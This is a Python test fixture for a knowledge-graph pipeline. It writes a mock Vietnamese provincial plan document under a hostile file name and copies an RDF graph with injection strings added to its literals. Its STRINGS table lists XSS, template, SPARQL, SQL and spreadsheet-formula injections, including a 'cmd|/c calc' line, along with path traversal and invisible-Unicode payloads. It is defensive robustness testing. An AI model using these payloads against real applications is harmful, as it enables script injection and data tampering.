"""Hostile words: a paper full of them, and a graph in which every name carries one.

The paper goes the whole way of the data; since cleaning takes markup away, its strings stand in it
as entities too, which cleaning turns into the characters they mean. The poisoned graph is for what
no rule of extraction would take as the name of a body, a person or an indicator.
"""

from __future__ import annotations

import html
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pyoxigraph as ox

from kg.store import StoredDocument, read_manifest, write_manifest
from kg.terms import iri_of

STRINGS = {
    "script": "<script>window.owned=1,document.title='owned'</script>",
    "end of script": "</script><script>window.owned=1</script>",
    "picture": "\"><img src=x onerror=\"window.owned=1\">",
    "drawing": "<svg/onload=window.owned=1>",
    "frame": "<iframe srcdoc=\"<script>top.owned=1</script>\"></iframe>",
    "link": "<a href=\"javascript:window.owned=1\">bấm vào đây</a>",
    "address": "javascript:window.owned=1",
    "style": "<style>body{display:none}</style>",
    "end of attribute": "' onfocus='window.owned=1' autofocus x='",
    "end of comment": "--><base href=\"http://vi-du.example/\"><!--",
    "template": "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} <%= owned %>",
    "Turtle": "\"@vi . <urn:x:a> <urn:x:b> <urn:x:c> . #",
    "Turtle, long": "\"\"\" . <urn:x:a> <urn:x:b> \"\"\"",
    "SPARQL": "' } UNION { ?s ?p ?o } INSERT DATA { <urn:x:a> <urn:x:b> 1 } #",
    "SQL": "' OR '1'='1' UNION SELECT sql FROM sqlite_master --",
    "full-text query": "\" OR NEAR(a b) * ^ label:",
    "formula": "=HYPERLINK(\"http://vi-du.example/?\"&A1,\"bấm\")",
    "command": "@SUM(1+1)*cmd|'/c calc'A0",
    "right to left": "\u202eóc gnôhk\u202c \u2066\u200f",
    "no width": "a\u200bb\u200dc\u2060d\ufeffe\u00ad",
    "line ends": "một\u2028hai\u2029ba\u0085bốn",
    "nothing": "null undefined NaN [object Object] __proto__ constructor toString",
    "path": "..%2f..%2f../../etc/passwd\\..\\",
    "long": "dài" * 150,
}  # fmt: skip
"""By what each tries to be. None has what ends a sentence, so that each stays in its duty."""

FILE_NAME = "<img src=x onerror=window.owned=1> '\"=1+1&.txt"

_BODIES = (
    "Sở Y tế", "Sở Tài chính", "Sở Xây dựng", "Sở Tư pháp", "Sở Nội vụ", "Sở Công Thương",
    "Sở Giáo dục và Đào tạo", "Sở Khoa học và Công nghệ",
)  # fmt: skip
_HEAD = """ỦY BAN NHÂN DÂN
TỈNH LAM GIANG
Số: 66/KH-UBND

CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM
Độc lập - Tự do - Hạnh phúc
Hòa Lam, ngày 06 tháng 8 năm 2025

KẾ HOẠCH
Nhập liệu &lt;script&gt;window.owned=1&lt;/script&gt; {{owned}} <b onclick=window.owned=1>đậm</b>

Thực hiện Nghị quyết số 38/NQ-HĐND ngày 25/7/2025 của HĐND tỉnh, UBND tỉnh giao như sau:

"""
_FIGURES = """
Tỷ lệ hộ dùng nước sạch <iframe src=//vi-du.example> đạt 95% năm 2025.
Tỷ lệ hộ nghèo giảm còn 2,5% năm 2025.
Dự án đường <marquee>Hòa Lam</marquee> - Thạch Lũng chưa bàn giao mặt bằng do vướng \
&lt;img src=x onerror=window.owned=1&gt;.
"""
_FOOT = """
Nơi nhận:
- Lưu: VT.

TM. ỦY BAN NHÂN DÂN
CHỦ TỊCH

Mạc Thế Phong
"""


def paper() -> str:
    """Return the paper: each string twice in a duty, as it is and as entities."""
    duties = []
    for number, text in enumerate(STRINGS.values()):
        body = _BODIES[number % len(_BODIES)]
        duties += [
            f"{2 * number + 1}. Giao {body} nhập {text} vào sổ trước ngày 15/9/2025.",
            f"{2 * number + 2}. Giao {body} in {html.escape(text)} ra sổ trước ngày 20/10/2025.",
        ]
    return _HEAD + "\n".join(duties) + "\n" + _FIGURES + _FOOT


def write_paper(folder: Path) -> Path:
    """Write the paper under its hostile name and return its path."""
    path = folder / FILE_NAME
    path.write_text(paper(), encoding="utf-8")
    return path


_KEPT = {iri_of(f"ck:{name}") for name in ("sha256", "box", "fileFormat", "encoding", "recurrence")}
"""Literals that no document can choose."""

_TEXT = {iri_of("xsd:string"), iri_of("rdf:langString")}
BAD_IRI = "javascript:window.owned=1"


def poison(built: Path, into: Path) -> Path:
    """Copy a built graph; add a hostile string to each literal, and give a body a hostile IRI."""
    manifest = read_manifest(built)
    assert manifest
    shutil.copytree(built, into, ignore=shutil.ignore_patterns("store-*", "index-*", ".*"))
    source = ox.Store.read_only(str(built / manifest.store))
    target = ox.Store(str(into / manifest.store))
    target.bulk_extend(_poisoned(source))
    target.flush()
    documents = tuple(_renamed(document) for document in manifest.documents)
    write_manifest(into, replace(manifest, documents=documents))
    return into


def _renamed(document: StoredDocument) -> StoredDocument:
    return replace(document, name=f"{document.name}{STRINGS['picture']}")


def _poisoned(source: ox.Store) -> Iterator[ox.Quad]:
    label = ox.NamedNode(iri_of("skos:prefLabel"))
    body = next(
        quad.subject
        for quad in source.quads_for_pattern(None, label, None)
        if getattr(quad.object, "value", "").startswith("Sở Y tế")
    )
    strings = [*STRINGS.values()]
    bad = ox.NamedNode(BAD_IRI)
    for number, quad in enumerate(source):
        subject = bad if quad.subject == body else quad.subject
        value = bad if quad.object == body else quad.object
        if isinstance(value, ox.Literal) and _is_text(quad):
            pair = (strings[number % len(strings)], value.value)
            text = " ".join(pair if number % 2 else reversed(pair))
            value = ox.Literal(text, language=value.language)
        yield ox.Quad(subject, quad.predicate, value, quad.graph_name)


def _is_text(quad: ox.Quad) -> bool:
    literal = quad.object
    assert isinstance(literal, ox.Literal)
    return literal.datatype.value in _TEXT and quad.predicate.value not in _KEPT
